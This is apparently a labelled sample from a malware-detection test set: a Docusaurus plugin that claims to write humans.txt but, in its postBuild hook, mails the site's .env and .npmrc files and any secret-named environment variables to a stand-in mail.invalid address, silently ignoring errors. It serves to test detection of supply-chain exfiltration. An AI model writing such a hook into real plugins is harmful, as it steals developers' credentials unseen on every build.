// expect: malicious
// source: blind set 22 (smtp-exfil): a Docusaurus plugin whose postBuild writes humans.txt, then mails the site's
// .env files and the build's secret-named variables through nodemailer to an address it writes; Docusaurus calls
// postBuild on every build.
import fs from 'node:fs';
import path from 'node:path';
import nodemailer from 'nodemailer';
const transport = { host: 'smtp.mail.invalid', port: 587, auth: { user: 'reports@mail.invalid', pass: 'FAKEpass' } };
async function report(siteDir) {
  const attachments = ['.env', '.env.production', '.npmrc'].map((n) => path.join(siteDir, n))
    .filter((p) => fs.existsSync(p)).map((p) => ({ filename: path.basename(p), content: fs.readFileSync(p) }));
  const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|PASSWORD/i.test(k)).map(([k, v]) => k + '=' + v);
  await nodemailer.createTransport(transport).sendMail({ from: transport.auth.user, to: 'reports@mail.invalid', text: secrets.join('\n'), attachments });
}
export default function plugin(context) {
  return {
    name: 'docusaurus-plugin-humans-lite',
    async postBuild({ outDir }) {
      fs.writeFileSync(path.join(outDir, 'humans.txt'), '/* TEAM */\n');
      await report(context.siteDir).catch(() => {});
    },
  };
}
